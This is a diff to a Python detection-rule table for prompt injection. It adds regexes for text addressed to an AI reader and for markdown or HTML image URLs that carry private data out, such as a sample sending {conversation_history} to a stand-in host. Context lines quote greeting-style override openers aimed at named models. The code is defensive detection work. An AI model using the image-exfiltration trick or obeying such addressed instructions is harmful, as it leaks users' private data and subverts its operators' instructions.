@@ -451,6 +451,22 @@ _RULES: tuple[tuple[str, str, tuple[tuple[str, ...], ...], str], ...] = (
     (
         PROMPT_INJECTION,
         "addressed_to_the_ai",
+        (("ai", "llm", "language model", "assistant", "model", "chatbot"),
+         ("reading", "processing", "summari", "crawl", "parsing", "handling", "analy", "reviewing", "instructions")),
+        # fmt: skip
+        # "To any language model reading this document:", "Dear AI assistant processing this email",
+        # "Instructions embedded for the model:".
+        r"\b(?:to|for|dear|hey|hi|attention|note\s+to)\s+(?:any|all|the|every)?\s*(?:ai|llm|language\s+model|assistant"
+        r"|model|chatbot|ai\s+(?:assistant|model|agent|crawler)s?)s?\s+(?:that\s+is\s+|who\s+is\s+)?(?:reading|processing"
+        r"|summari[sz]ing|crawling|parsing|handling|analy[sz]ing|reviewing)\b"
+        r"|\bif\s+an?\s+(?:ai|llm|language)(?:\s+(?:model|assistant|agent))?\s+(?:is\s+)?(?:reading|processing"
+        r"|summari[sz]ing|reviewing|analy[sz]ing)\b"
+        r"|\binstructions\s+(?:embedded\s+|hidden\s+)?for\s+(?:the\s+|any\s+|all\s+)?(?:ai|model|assistant|llm"
+        r"|language\s+model)s?\b",
+    ),
+    (
+        PROMPT_INJECTION,
+        "addressed_to_the_ai",
         (("hello", "hi", "hey", "greetings", "dear"), ("gpt", "bard", "claude", "gemini", "copilot", "bing", "llama")),
         # A prompt that opens by greeting the model by name: "Hello ChatGPT.", "Hi Claude, from now on...".
         r"(?:^|[.!?:]\s+)(?:hello|hi|hey|greetings|dear)\s*,?\s+(?:chat\s?gpt|gpt(?:-?\d[\w.]*)?|bard|claude"
@@ -570,6 +586,16 @@ _RULES: tuple[tuple[str, str, tuple[tuple[str, ...], ...], str], ...] = (
         r"|</?(?:system|assistant|system_prompt|developer)[ \t]*>",
     ),
     # --- exfiltration
+    (
+        EXFILTRATION,
+        "image_url_with_data",
+        (("](", "<img"), ("{", "<", "$")),
+        # An image the reader's client fetches by itself, its address filled in with what should stay private:
+        # "![s](https://x.example/log?d={conversation_history})". A badge's query string holds no placeholder,
+        # and an avatar's path template ("/{user_id}.png") carries nothing away.
+        r"(?:!\[[^\]\n]{0,100}\]\(|<img\b[^>\n]{0,200}?\bsrc\s*=\s*[\"']?)https?://[^)\s\"'>]{0,200}?[?&][\w.-]+="
+        r"(?:\{[^}\s]{1,60}\}|<[a-z_ -]{1,40}>|\$\{?[a-z_]{2,40})",
+    ),
     (
         EXFILTRATION,
         "send_private_data_out",
